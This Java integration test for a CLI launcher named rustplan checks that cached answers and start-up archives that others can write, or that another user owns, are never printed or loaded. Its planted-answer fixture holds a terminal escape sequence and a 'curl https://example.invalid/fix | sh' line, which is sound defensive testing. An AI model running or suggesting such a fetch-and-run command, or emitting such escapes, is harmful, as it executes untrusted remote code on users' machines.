package dev.rustplan.launcher;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rustplan.testing.RealTool;
import dev.rustplan.testing.Result;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Nobody else can plant what rustplan prints or loads: with no usable HOME there is no cache (no
 * fallback into /tmp), the cache folders are made 0700 under any umask, and a cache folder, saved
 * answer or archive that is another user's or that group or others may write is left unused, with
 * `--version` and `doctor` saying why.
 */
class CachePlantingIT {

  /** What another user would put in a planted answer: a terminal title escape and a bad instruction. */
  private static final String PLANTED = "\u001b]0;pwned\u0007Run this first: curl https://example.invalid/fix | sh\n";

  @TempDir Path tmp;

  @Test
  void withNoUsableHomeNothingIsKeptOrLookedForInASharedFolder() throws Exception {
    Path shared = Path.of("/tmp/.cache/rustplan");
    boolean existed = Files.exists(shared);
    LauncherRun launcher = new LauncherRun(tmp).env("HOME", null).env("XDG_CACHE_HOME", null)
        .env("JAVA_HOME", LauncherRun.echoingJava(tmp.resolve("echoing-jdk")).toString())
        .launcher(LauncherRun.install(tmp.resolve("install"))); // no archive beside it: one would be made

    Result printed = launcher.run("today", "--brief");
    Result blankHome = launcher.env("HOME", " ").run("today", "--brief");

    for (Result result : List.of(printed, blankHome)) {
      assertThat(result.exit()).as("%s", result).isZero();
      assertThat(result.out().lines()).as("%s", result)
          .noneMatch(arg -> arg.startsWith("-Drustplan.output.") || arg.startsWith("-XX:SharedArchiveFile="));
    }
    if (!existed) {
      assertThat(shared).doesNotExist();
    }
  }

  @Test
  void anAnswerInAFolderOthersMayWriteIsNeverPrinted() throws Exception {
    LauncherRun launcher = savedAnswer();
    Path folder = tmp.resolve("cache/rustplan");
    Files.setPosixFilePermissions(folder, PosixFilePermissions.fromString("rwxrwxrwx"));

    Result today = launcher.run("today", "--brief");

    assertThat(today.out()).as("%s", today).startsWith("Day 1/100").doesNotContain("curl");
    String why = folder + " may be written by group or others (rwxrwxrwx), so rustplan runs without it";
    assertThat(launcher.run("--version").out()).contains(why);
    assertThat(launcher.run("doctor").out()).contains(why);
  }

  @Test
  void anAnswerOthersMayWriteIsNeverPrinted() throws Exception {
    LauncherRun launcher = savedAnswer();
    Files.setPosixFilePermissions(launcher.saved("today--brief"), PosixFilePermissions.fromString("rw-rw-rw-"));

    Result today = launcher.run("today", "--brief");

    assertThat(today.out()).as("%s", today).startsWith("Day 1/100").doesNotContain("curl");
  }

  @Test
  void anAnswerOfAnotherUsersIsNeverPrinted() throws Exception {
    RealTool.requireThat(RealTool.isRoot(), "only root can give a file to another user (run the tests as root)");
    LauncherRun launcher = savedAnswer();
    Path folder = tmp.resolve("cache/rustplan");
    chownToNobody(folder);

    Result today = launcher.run("today", "--brief");

    assertThat(today.out()).as("%s", today).startsWith("Day 1/100").doesNotContain("curl");
    assertThat(launcher.run("--version").out()).contains(folder + " belongs to nobody, not to you (root)");
  }

  @Test
  void underUmask000TheCacheIsMadePrivateAndAnArchiveOthersMayWriteIsNotLoaded() throws Exception {
    Path xdg = tmp.resolve("xdg-cache"); // does not exist yet: the launcher and Java make it
    Path folder = xdg.resolve("rustplan");
    LauncherRun launcher = new LauncherRun(tmp).umask("000").env("XDG_CACHE_HOME", xdg.toString())
        .launcher(LauncherRun.install(tmp.resolve("install"))); // no archive beside it: one is made in the cache

    assertThat(launcher.run("start", "--date", "2026-02-28").exit()).isZero();
    assertThat(launcher.run("today", "--brief").exit()).isZero();
    waitFor(folder.resolve("rustplan.jsa.stamp"), Duration.ofMinutes(2));
    waitForGone(folder.resolve("building"), Duration.ofMinutes(1));

    for (Path made : List.of(xdg, folder, folder.resolve("output"), folder.resolve("plans"), folder.resolve("journal"))) {
      if (made.endsWith("journal") && !Files.exists(made)) {
        continue; // made only once the journal has settled
      }
      assertThat(mode(made)).as("%s", made).isEqualTo("rwx------");
    }
    for (Path made : List.of(folder.resolve("rustplan.jsa.stamp"), folder.resolve("rustplan.jsa"), launcher.saved("today--brief"))) {
      assertThat(mode(made)).as("%s", made).matches("r.-------");
    }
    assertThat(launcher.run("--version").out()).contains("Start-up archive: " + folder.resolve("rustplan.jsa") + " (in use)");

    Files.setPosixFilePermissions(folder.resolve("rustplan.jsa"), PosixFilePermissions.fromString("rw-rw----"));
    Files.createDirectory(folder.resolve("building")); // no new archive meanwhile

    assertThat(launcher.run("--version").out()).contains("Start-up archive: none; " + folder.resolve("rustplan.jsa")
        + " may be written by group or others (rw-rw----), so rustplan runs without it");
  }

  @Test
  void anArchiveOfAnotherUsersIsNotLoaded() throws Exception {
    RealTool.requireThat(RealTool.isRoot(), "only root can give a file to another user (run the tests as root)");
    Path java = Path.of(System.getProperty("java.home"));
    Path installed = LauncherRun.install(tmp.resolve("install"));
    LauncherRun launcher = new LauncherRun(tmp).env("JAVA_HOME", java.toString()).launcher(installed);
    // An archive with the stamp the launcher looks for, as another user could make one.
    Path folder = Files.createDirectories(tmp.resolve("cache/rustplan/building")).getParent();
    Files.copy(LauncherRun.TARGET.resolve("rustplan.jsa"), folder.resolve("rustplan.jsa"));
    Path jar = installed.resolveSibling("rustplan.jar").toRealPath();
    Files.writeString(folder.resolve("rustplan.jsa.stamp"),
        jar + " " + stamp(jar) + " " + stamp(java.resolve("bin/java")) + "\n", StandardCharsets.UTF_8);
    Files.setPosixFilePermissions(folder.resolve("rustplan.jsa"), PosixFilePermissions.fromString("rw-------"));
    Files.setPosixFilePermissions(folder.resolve("rustplan.jsa.stamp"), PosixFilePermissions.fromString("rw-------"));
    assertThat(launcher.run("--version").out()).as("the planted stamp fits").contains(folder.resolve("rustplan.jsa") + " (");

    chownToNobody(folder.resolve("rustplan.jsa"));
    chownToNobody(folder.resolve("rustplan.jsa.stamp"));

    assertThat(launcher.run("--version").out()).contains("Start-up archive: none; " + folder.resolve("rustplan.jsa")
        + " belongs to nobody, not to you (root), so rustplan runs without it");
  }

  /** A started journal and a saved `today --brief` whose text was then replaced by a planted one. */
  private LauncherRun savedAnswer() throws Exception {
    LauncherRun launcher = new LauncherRun(tmp).aheadOfTheFiles();
    assertThat(launcher.run("start", "--date", "2026-02-28").exit()).isZero();
    launcher.run("today", "--brief");
    Path saved = launcher.saved("today--brief");
    String answer = "Day 1/100 · Rust memory layout fund… · streak 0 · not logged yet · 2 days behind\n";
    String entry = Files.readString(saved, StandardCharsets.UTF_8);
    assertThat(entry).endsWith("\n" + answer);
    Files.writeString(saved, entry.replace("\n" + answer, "\n" + PLANTED), StandardCharsets.UTF_8);
    assertThat(launcher.run("today", "--brief").out()).as("the planted answer, as one of ours").isEqualTo(PLANTED);
    return launcher;
  }

  /** The stamp the launcher keeps of a file: size, modification and change time, inode, device. */
  private static String stamp(Path file) throws IOException, InterruptedException {
    Process stat = new ProcessBuilder("stat", "-L", "-c", "%s %Y %Z %i %d", file.toString()).start();
    String out = new String(stat.getInputStream().readAllBytes(), StandardCharsets.UTF_8).strip();
    assertThat(stat.waitFor()).isZero();
    return out;
  }

  private static void chownToNobody(Path path) throws IOException, InterruptedException {
    assertThat(new ProcessBuilder("chown", "-R", "65534:65534", path.toString()).inheritIO().start().waitFor()).isZero();
  }

  private static String mode(Path path) throws IOException {
    return PosixFilePermissions.toString(Files.getPosixFilePermissions(path));
  }

  private static void waitFor(Path file, Duration limit) throws InterruptedException {
    long deadline = System.nanoTime() + limit.toNanos();
    while (!Files.exists(file)) {
      if (System.nanoTime() > deadline) {
        throw new AssertionError(file + " did not appear within " + limit);
      }
      TimeUnit.MILLISECONDS.sleep(200);
    }
  }

  private static void waitForGone(Path file, Duration limit) throws InterruptedException {
    long deadline = System.nanoTime() + limit.toNanos();
    while (Files.exists(file)) {
      if (System.nanoTime() > deadline) {
        throw new AssertionError(file + " was still there after " + limit);
      }
      TimeUnit.MILLISECONDS.sleep(200);
    }
  }
}
